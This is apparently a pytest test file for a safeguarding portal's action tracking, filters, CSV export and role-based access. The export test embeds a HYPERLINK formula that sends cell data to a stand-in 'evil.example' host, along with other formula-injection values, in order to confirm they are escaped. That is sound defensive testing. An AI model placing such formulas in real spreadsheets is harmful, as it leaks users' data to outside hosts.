"""Actions for the Learning & Improvement Group: added from a case, status and dated updates,
the list's filters and overdue flag, the CSV export, and the learning_group role, which sees
actions across every case and nothing else: no other staff route, and no personal data."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from urllib.parse import urlencode

import pytest
from flask import current_app, url_for
from sqlalchemy import select

from portal.extensions import db
from portal.models import Action, ActionUpdate, Meeting, Participant
from portal.services import actions as service
from portal.services import organisations
from portal.staff import rule_for

from .staff_helpers import fresh_session, make_case, make_user, sign_in

TODAY = date.today()
# What the Learning & Improvement Group must never see: the adult's name and identifiers, the
# case's reference and free text, the meeting's recommendations.
ADULT_NAME = "Zebedee Quartermaine-Oyelaran"
SECRETS = (
    ADULT_NAME,
    "Zeb Q",
    "4857773456",
    "CF-778899",
    "SYS-ZQ-5521",
    "ZQ-REF-0042",
    "Quietwater Lane",
    "zebedee@example.org",
    "Pressure sores noted by district nurse",
    "Recommend Zebedee's GP reviews",
)


def _organisation(name: str = "Devon Police", kind: str = "police"):
    found = organisations.find_by_name(name)
    if found is not None:
        return found
    made = organisations.create(name, kind, [name.lower().replace(" ", "") + ".example.org"])
    db.session.commit()
    return made


def _case(reference: str = "ACT-1", facilitator=None, **fields):
    return make_case(reference, facilitator=facilitator, **fields)


def _action(case, what="Review the multi-agency referral pathway", due=None, org=None, **kw):
    fresh_session()
    action = service.create(
        case,
        what=what,
        owner_organisation_id=(org or _organisation()).id,
        lead=kw.pop("lead", "Head of Adult Safeguarding"),
        due_on=due or TODAY + timedelta(days=60),
        **kw,
    )
    db.session.commit()
    return action


def _private_case(facilitator=None):
    """A case full of the adult's personal data, with a meeting whose recommendations name
    them, and one action in neutral words."""
    case = _case(
        "ZQ-REF-0042",
        facilitator=facilitator,
        adult_name=ADULT_NAME,
        adult_known_as="Zeb Q",
        nhs_number="4857773456",
        care_first_number="CF-778899",
        agency_system_id="SYS-ZQ-5521",
        abuse_location="Quietwater Lane",
        presenting_concern="Pressure sores noted by district nurse",
        theme="Self-neglect",
    )
    db.session.add(
        Participant(case_id=case.id, role="adult", name=ADULT_NAME, email="zebedee@example.org")
    )
    db.session.add(Meeting(case_id=case.id, recommendations="Recommend Zebedee's GP reviews"))
    db.session.commit()
    return case, _action(case)


def _new_action_form(org_id, **changes) -> dict:
    due = TODAY + timedelta(days=45)
    form = {
        "what": "Audit how the referral pathway records the person’s wishes",
        "owner_organisation_id": str(org_id),
        "lead": "Safeguarding lead, Devon Police",
        "due_on": [str(due.day), str(due.month), str(due.year)],
        "status": "open",
        "dropped_reason": "",
    }
    form.update(changes)
    return form


def _errors(page) -> str:
    summary = page.soup.select_one(".govuk-error-summary")
    assert summary is not None, page.get_data(as_text=True)[:3000]
    return summary.get_text(" ", strip=True)


# --- Adding an action from a case ----------------------------------------------------------------


def test_an_action_is_added_from_the_case_page_with_the_meetings_recommendations_beside(
    app, client
):
    coordinator = make_user("coordinator")
    case = _case()
    db.session.add(Meeting(case_id=case.id, recommendations="Share the learning on pathways"))
    db.session.commit()
    org = _organisation()
    sign_in(client, coordinator)

    page = client.get(f"/staff/cases/{case.id}")
    link = page.soup.find("a", string="Add an action")
    assert link["href"] == f"/staff/cases/{case.id}/actions/new"
    form_page = client.get(link["href"])
    assert "Share the learning on pathways" in form_page.get_data(as_text=True)
    assert form_page.soup.find("option", string="Devon Police")

    done = client.submit(link["href"], _new_action_form(org.id))
    assert done.status_code == 303
    fresh_session()
    action = db.session.scalar(select(Action).where(Action.case_id == case.id))
    assert action.owner_organisation_id == org.id and action.status == "open"
    assert action.meeting_id == db.session.scalar(
        select(Meeting.id).where(Meeting.case_id == case.id)
    )
    assert done.headers["Location"].startswith(f"/staff/actions/{action.id}")
    listed = client.get(f"/staff/cases/{case.id}").soup.select_one("#case-actions")
    assert "Audit how the referral pathway" in listed.get_text()
    assert "Devon Police" in listed.get_text()


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"what": ""}, "Enter what the action is"),
        ({"what": " \r\n "}, "Enter what the action is"),
        ({"lead": "   "}, "Enter the lead’s name or role"),
        ({"what": "x" * 2001}, "must be 2,000 characters or fewer"),
        ({"owner_organisation_id": ""}, "Select the organisation that owns the action"),
        ({"owner_organisation_id": "999999"}, "Select an organisation from the list"),
        ({"owner_organisation_id": "9" * 40}, "Select an organisation from the list"),
        ({"owner_organisation_id": "abc"}, "Select an organisation from the list"),
        ({"lead": ""}, "Enter the lead’s name or role"),
        ({"lead": "x" * 121}, "Lead must be 120 characters or fewer"),
        ({"due_on": ["", "", ""]}, "Enter the due date"),
        ({"due_on": ["31", "2", "2027"]}, "Due date must be a real date"),
        ({"due_on": ["1", "1", "9" * 30]}, "Due date must be a real date"),
        ({"status": "finished"}, "Select the status"),
        ({"status": ""}, "Select the status"),
        ({"status": "dropped"}, "Enter why the action is dropped"),
        ({"dropped_reason": "x" * 2001, "status": "dropped"}, "2,000 characters or fewer"),
    ],
)
def test_bad_input_to_a_new_action_gets_a_govuk_error(app, client, changes, message):
    coordinator = make_user("coordinator")
    case = _case()
    org = _organisation()
    sign_in(client, coordinator)
    page = client.submit(f"/staff/cases/{case.id}/actions/new", _new_action_form(org.id, **changes))
    assert page.status_code == 200
    assert message in _errors(page)
    assert page.soup.title.get_text().startswith("Error:")
    fresh_session()
    assert db.session.scalar(select(Action.id).where(Action.case_id == case.id)) is None


def test_a_new_action_may_be_dropped_with_a_reason(app, client):
    sign_in(client, make_user("coordinator"))
    case, org = _case(), _organisation()
    form = _new_action_form(org.id, status="dropped", dropped_reason="Covered by another review")
    assert client.submit(f"/staff/cases/{case.id}/actions/new", form).status_code == 303
    fresh_session()
    action = db.session.scalar(select(Action).where(Action.case_id == case.id))
    assert (action.status, action.dropped_reason) == ("dropped", "Covered by another review")


def test_the_service_refuses_what_a_form_would(app):
    case, org = _case(), _organisation()
    good = {
        "what": "Do it",
        "owner_organisation_id": org.id,
        "lead": "Lead",
        "due_on": TODAY,
    }
    bad = [
        {"what": " "},
        {"what": "x" * 2001},
        {"what": 5},
        {"lead": "x" * 121},
        {"owner_organisation_id": 10**30},
        {"owner_organisation_id": "nope"},
        {"owner_organisation_id": None},
        {"due_on": "2027-01-01"},
        {"due_on": datetime.now(UTC)},
        {"status": "finished"},
        {"status": "dropped"},
    ]
    for changes in bad:
        with pytest.raises(service.InvalidAction):
            service.create(case, **{**good, **changes})
    action = service.create(case, **good)
    with pytest.raises(service.InvalidAction):
        service.set_status(action, "dropped", "  ")
    with pytest.raises(service.InvalidAction):
        service.add_update(action, "x" * 2001, "Someone")
    assert service.find(10**30) is None
    db.session.rollback()


# --- An action's page: status and updates ---------------------------------------------------------


def test_status_changes_and_a_dropped_action_needs_a_reason(app, client):
    sign_in(client, make_user("coordinator"))
    action = _action(_case())
    path = f"/staff/actions/{action.id}"
    page = client.get(path)
    assert page.soup.select_one(".govuk-summary-list .govuk-tag").get_text(strip=True) == "Open"

    done = client.post(
        f"{path}/status", data={"csrf_token": client.csrf_token(path), "status": "in_progress"}
    )
    assert done.status_code == 303
    fresh_session()
    assert db.session.get(Action, action.id).status == "in_progress"

    token = client.csrf_token(path)
    page = client.post(f"{path}/status", data={"csrf_token": token, "status": "dropped"})
    assert page.status_code == 200
    assert "Enter why the action is dropped" in _errors(page)
    assert page.soup.select_one("#dropped_reason")  # the summary's link has somewhere to go
    page = client.post(f"{path}/status", data={"csrf_token": token, "status": "nonsense"})
    assert page.status_code == 200 and "Select the status" in _errors(page)
    page = client.post(
        f"{path}/status",
        data={"csrf_token": token, "status": "dropped", "dropped_reason": "y" * 2001},
    )
    assert page.status_code == 200 and "2,000 characters or fewer" in _errors(page)
    fresh_session()
    assert db.session.get(Action, action.id).status == "in_progress"

    data = {"csrf_token": token, "status": "dropped", "dropped_reason": "Superseded by the review"}
    assert client.post(f"{path}/status", data=data).status_code == 303
    page = client.get(path)
    assert "Superseded by the review" in page.soup.select_one(".govuk-summary-list").get_text()
    assert (
        client.post(f"{path}/status", data={"csrf_token": token, "status": "open"}).status_code
        == 303
    )
    fresh_session()
    again = db.session.get(Action, action.id)
    assert (again.status, again.dropped_reason) == ("open", None)
    # Without the CSRF token nothing changes.
    assert client.post(f"{path}/status", data={"status": "done"}).status_code == 400


def test_updates_are_dated_and_shown_newest_first(app, client):
    user = make_user("coordinator", name="Casey Coordinator")
    sign_in(client, user)
    action = _action(_case())
    fresh_session()
    service.add_update(
        db.session.get(Action, action.id),
        "First meeting held",
        "Someone",
        when=datetime(2026, 10, 1, 9, tzinfo=UTC),
    )
    db.session.commit()
    path = f"/staff/actions/{action.id}"
    done = client.post(
        f"{path}/updates",
        data={"csrf_token": client.csrf_token(path), "text": "Training booked for March"},
    )
    assert done.status_code == 303
    page = client.get(path)
    items = [li.get_text(" ", strip=True) for li in page.soup.select(".staff-timeline li")]
    assert "Training booked for March" in items[0] and "by Casey Coordinator" in items[0]
    assert "1 October 2026" in items[1] and "First meeting held" in items[1]

    token = client.csrf_token(path)
    page = client.post(f"{path}/updates", data={"csrf_token": token, "text": "   "})
    assert page.status_code == 200 and "Enter the update" in _errors(page)
    page = client.post(f"{path}/updates", data={"csrf_token": token, "text": "z" * 2001})
    assert page.status_code == 200 and "2,000 characters or fewer" in _errors(page)
    fresh_session()
    assert (
        len(
            db.session.scalars(
                select(ActionUpdate).where(ActionUpdate.action_id == action.id)
            ).all()
        )
        == 2
    )


def test_unknown_actions_are_not_found(app, client):
    sign_in(client, make_user("coordinator"))
    assert client.get("/staff/actions/999999").status_code == 404
    assert client.get(f"/staff/actions/{10**30}").status_code == 404
    token = client.csrf_token("/staff/actions")
    assert (
        client.post(
            "/staff/actions/999999/updates", data={"csrf_token": token, "text": "x"}
        ).status_code
        == 404
    )


# --- The list: filters, overdue, order ------------------------------------------------------------


def _listed(page) -> list[str]:
    return [a.get_text(strip=True) for a in page.soup.select("tbody a[href^='/staff/actions/']")]


def test_the_list_filters_sorts_by_due_date_and_flags_overdue_actions(app, client):
    sign_in(client, make_user("coordinator"))
    case = _case()
    police, nhs = _organisation(), _organisation("Royal Devon NHS Trust", "nhs")
    _action(case, "Late police action", due=TODAY - timedelta(days=3), org=police)
    _action(case, "Soon NHS action", due=TODAY + timedelta(days=10), org=nhs, status="in_progress")
    _action(case, "Later police action", due=TODAY + timedelta(days=90), org=police)
    _action(case, "Finished late action", due=TODAY - timedelta(days=30), org=nhs, status="done")

    page = client.get("/staff/actions")
    assert _listed(page) == [
        "Finished late action",
        "Late police action",
        "Soon NHS action",
        "Later police action",
    ]
    rows = {r.select_one("a").get_text(strip=True): r for r in page.soup.select("tbody tr")}
    assert "Overdue" in rows["Late police action"].get_text()
    assert (
        rows["Late police action"].select_one(".govuk-tag--red").get_text(strip=True) == "Overdue"
    )
    assert "Overdue" not in rows["Finished late action"].get_text()  # done is never overdue
    assert "Overdue" not in rows["Soon NHS action"].get_text()

    def names(**query):
        return _listed(client.get(url_for_actions(**query)))

    assert names(organisation=police.id) == ["Late police action", "Later police action"]
    assert names(status="in_progress") == ["Soon NHS action"]
    assert names(due="overdue") == ["Late police action"]
    assert names(due="next_30_days") == ["Soon NHS action"]
    assert names(organisation=nhs.id, status="done") == ["Finished late action"]
    assert names(status="unfinished") == [
        "Late police action",
        "Soon NHS action",
        "Later police action",
    ]
    # Values that are not choices are ignored, never a failure.
    for query in (
        {"organisation": "999999"},
        {"organisation": "x" * 5000},
        {"organisation": "9" * 40},
        {"status": "nonsense"},
        {"due": "yesterday"},
    ):
        page = client.get(url_for_actions(**query))
        assert page.status_code == 200, query
        assert len(_listed(page)) == 4, query
    # The filter shown matches what was chosen.
    page = client.get(url_for_actions(due="overdue"))
    assert page.soup.select_one("#due option[selected]")["value"] == "overdue"


def url_for_actions(**query) -> str:
    return "/staff/actions?" + urlencode(query)


# --- CSV ------------------------------------------------------------------------------------------


def _csv_rows(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), "a UTF-8 byte order mark, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_csv_export_is_the_filtered_list_safe_in_a_spreadsheet(app, client):
    sign_in(client, make_user("coordinator"))
    case = _case()
    police, nhs = _organisation(), _organisation("Royal Devon NHS Trust", "nhs")
    dangerous = _action(
        case,
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        due=TODAY - timedelta(days=1),
        org=police,
        lead="+44 1392 000000",
    )
    _action(case, "-2+3", org=police, lead="@lead")
    _action(case, "Naïve café ‘quotes’, commas", org=nhs, lead="Lead, with comma")
    fresh_session()
    # The service trims what it is given, so a leading tab or carriage return can only have
    # come some other way: stored directly, as another program might.
    for text, day in (("\tTabbed update", 5), ("\rReturned update", 20)):
        db.session.add(
            ActionUpdate(
                action_id=dangerous.id,
                text=text,
                written_by="X",
                written_at=datetime(2026, 11, day, 10, tzinfo=UTC),
            )
        )
    db.session.commit()

    response = client.get("/staff/actions.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition == f'attachment; filename="actions-{TODAY.isoformat()}.csv"'
    rows = _csv_rows(response)
    assert rows[0] == [
        "Action",
        "Owner organisation",
        "Lead",
        "Due date",
        "Status",
        "Latest update",
        "Updated on",
    ]
    by_action = {row[0]: row for row in rows[1:]}
    assert len(by_action) == 3
    formula = by_action['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
    assert formula[1:] == [
        "Devon Police",
        "'+44 1392 000000",
        (TODAY - timedelta(days=1)).isoformat(),
        "Open",
        "'\rReturned update",
        "2026-11-20",
    ]
    assert by_action["'-2+3"][2] == "'@lead"
    assert by_action["'-2+3"][5:] == ["", ""]
    assert by_action["Naïve café ‘quotes’, commas"][2] == "Lead, with comma"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(service.FORMULA_STARTS), cell
    # The export follows the filters.
    rows = _csv_rows(client.get(f"/staff/actions.csv?organisation={nhs.id}"))
    assert [row[0] for row in rows[1:]] == ["Naïve café ‘quotes’, commas"]
    rows = _csv_rows(client.get("/staff/actions.csv?due=overdue&status=zzz"))
    assert len(rows) == 2
    # The list links to the export with its filters.
    link = client.get(f"/staff/actions?organisation={nhs.id}").soup.find(
        "a", href=lambda h: h and ".csv" in h
    )
    assert link["href"] == f"/staff/actions.csv?organisation={nhs.id}"


def test_safe_cell_follows_owasp():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert service.safe_cell(value) == "'" + value
    for value in ("Plain", "1-2", " =x", "2026-12-02", ""):
        assert service.safe_cell(value) == value
    assert service.safe_cell(None) == ""


# --- Who sees what --------------------------------------------------------------------------------


def test_a_facilitator_follows_the_actions_of_their_cases_only(app, client):
    facilitator = make_user("facilitator", email="fac@example.org")
    other = make_user("facilitator", email="other@example.org")
    mine = _action(_case("MINE", facilitator=facilitator), "My case's action")
    theirs = _action(_case("THEIRS", facilitator=other), "Their case's action")
    sign_in(client, facilitator)
    assert _listed(client.get("/staff/actions")) == ["My case's action"]
    assert client.get(f"/staff/actions/{mine.id}").status_code == 200
    assert client.get(f"/staff/actions/{theirs.id}").status_code == 404
    token = client.csrf_token("/staff/actions")
    for tail, data in (("status", {"status": "done"}), ("updates", {"text": "x"})):
        response = client.post(
            f"/staff/actions/{theirs.id}/{tail}", data={"csrf_token": token, **data}
        )
        assert response.status_code == 404
    rows = _csv_rows(client.get("/staff/actions.csv"))
    assert [row[0] for row in rows[1:]] == ["My case's action"]
    fresh_session()
    assert db.session.get(Action, theirs.id).status == "open"


def test_administrators_do_not_see_actions(app, client):
    action = _action(_case())
    sign_in(client, make_user("admin"))
    for path in ("/staff/actions", "/staff/actions.csv", f"/staff/actions/{action.id}"):
        assert client.get(path).status_code == 403, path


LEARNING_GROUP_ROUTES = {
    "staff.actions",
    "staff.actions_csv",
    "staff.action",
    "staff.action_status",
    "staff.action_update",
    # The quarterly report identifies no one (tests/test_staff_reports.py).
    "staff.reports",
    "staff.report",
    "staff.report_pdf",
    "staff.report_csv",
}
# Everyone signed in may sign out, keep their session alive, and be sent to their home page.
EVERY_STAFF_MEMBER = {"staff.sign_out", "staff.keep_alive", "staff.home"}


SAMPLES = {"role": "adult", "page": "who", "token": "x" * 43, "period": "2026-Q4"}


def _any_url(rule, action_id: int, case_id: int) -> str:
    values = {}
    for arg in rule.arguments:
        if arg == "action_id":
            values[arg] = action_id
        elif arg == "case_id":
            values[arg] = case_id
        elif arg in SAMPLES:
            values[arg] = SAMPLES[arg]
        elif arg in (rule.defaults or {}):
            values[arg] = rule.defaults[arg]  # one of several rules for one view
        else:
            values[arg] = 1  # refused before the view reads it
    with current_app.test_request_context():
        return url_for(rule.endpoint, **values)


def test_the_learning_group_is_refused_every_staff_route_but_the_actions(app, client):
    case, action = _private_case()
    sign_in(client, make_user("learning_group", email="lig@example.org"))
    token = client.csrf_token("/staff/actions")
    checked = 0
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("staff."):
            continue
        access = rule_for(rule.endpoint)
        allowed = rule.endpoint in LEARNING_GROUP_ROUTES | EVERY_STAFF_MEMBER
        if access.public or rule.endpoint == "staff.sign_out":
            continue
        assert ("learning_group" in access.roles) == allowed, rule.endpoint
        url = _any_url(rule, action.id, case.id)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            if method == "GET":
                response = client.get(url)
            else:
                response = client.post(url, data={"csrf_token": token})
            if allowed:
                assert response.status_code in (200, 204, 302, 303), (rule.endpoint, method)
            else:
                assert response.status_code == 403, (rule.endpoint, method, response.status_code)
                checked += 1
    assert checked >= 20
    # The pages that show a case's data, named, in case the walk above ever missed them.
    for path in (f"/staff/cases/{case.id}", "/staff/cases", f"/staff/cases/{case.id}/meeting"):
        assert client.get(path).status_code == 403, path


def test_the_learning_group_lands_on_the_actions_and_sees_only_what_it_may_use(app, client):
    _case_row, action = _private_case()
    landing = sign_in(client, make_user("learning_group", email="lig@example.org"))
    assert landing.headers["Location"] == "/staff/actions"
    page = client.get("/staff/actions")
    menu = [a.get_text(strip=True) for a in page.soup.select(".govuk-service-navigation__list a")]
    assert menu == ["Actions", "Reports"]
    buttons = [
        b.get_text(strip=True) for b in page.soup.select(".govuk-service-navigation__list button")
    ]
    assert buttons == ["Sign out"]
    assert client.get("/staff/").headers["Location"] == "/staff/actions"
    # Every link on their pages goes somewhere they may go.
    for path in ("/staff/actions", f"/staff/actions/{action.id}"):
        for link in client.get(path).soup.select("#main-content a[href]"):
            href = link["href"]
            if href.startswith("/staff/"):
                assert href.startswith("/staff/actions"), (path, href)


def test_the_learning_group_follows_actions_without_seeing_personal_data(app, client):
    case, action = _private_case()
    _action(case, "Refresh training on self-neglect", due=TODAY - timedelta(days=2))
    user = make_user("learning_group", email="lig@example.org", name="Lee Group")
    sign_in(client, user)
    seen = []

    def read(response):
        seen.append(response.get_data(as_text=True))
        return response

    page = read(client.get("/staff/actions"))
    assert "Review the multi-agency referral pathway" in page.get_data(as_text=True)
    assert "Refresh training on self-neglect" in page.get_data(as_text=True)
    assert "Overdue" in page.get_data(as_text=True)
    path = f"/staff/actions/{action.id}"
    read(client.get(path))
    for query in ("?due=overdue", "?status=open", f"?organisation={action.owner_organisation_id}"):
        read(client.get("/staff/actions" + query))
    # They add an update, and change a status.
    token = client.csrf_token(path)
    assert (
        client.post(
            f"{path}/updates", data={"csrf_token": token, "text": "Board told in December"}
        ).status_code
        == 303
    )
    page = read(client.get(path))
    assert "Board told in December" in page.get_data(as_text=True)
    assert "by Lee Group" in page.get_data(as_text=True)
    assert (
        client.post(f"{path}/status", data={"csrf_token": token, "status": "done"}).status_code
        == 303
    )
    read(client.post(f"{path}/status", data={"csrf_token": token, "status": "dropped"}))
    read(client.post(f"{path}/updates", data={"csrf_token": token, "text": ""}))
    read(client.get(path + "?done=update"))
    csv_response = client.get("/staff/actions.csv")
    seen.append(csv_response.get_data().decode("utf-8-sig"))
    assert "Board told in December" in seen[-1]

    for body in seen:
        for secret in SECRETS:
            assert secret not in body, secret
        assert "/staff/cases" not in body
    # The case's reference is typed freely and may name someone: it is never shown to them.
    assert "ZQ-REF" not in "".join(seen)


# --- Demo data ---------------------------------------------------------------------------------


def test_the_demo_adds_actions_once_the_meeting_is_recorded(app):
    from portal.demo import load_actions
    from portal.models import MeetingOrganisation

    case = _case("DEMO-ACT")
    assert load_actions(case) == []  # no meeting yet
    meeting = Meeting(case_id=case.id, recommendations="Add who to contact")
    meeting.organisations.append(MeetingOrganisation(organisation_id=_organisation().id))
    db.session.add(meeting)
    db.session.commit()
    assert load_actions(case) == ["Added 2 actions for DEMO-ACT"]
    db.session.commit()
    made = service.listing(case_id=case.id)
    assert [a.overdue(TODAY) for a in made] == [True, False]
    assert all(a.meeting_id == meeting.id for a in made)
    assert load_actions(case) == []  # never a second set
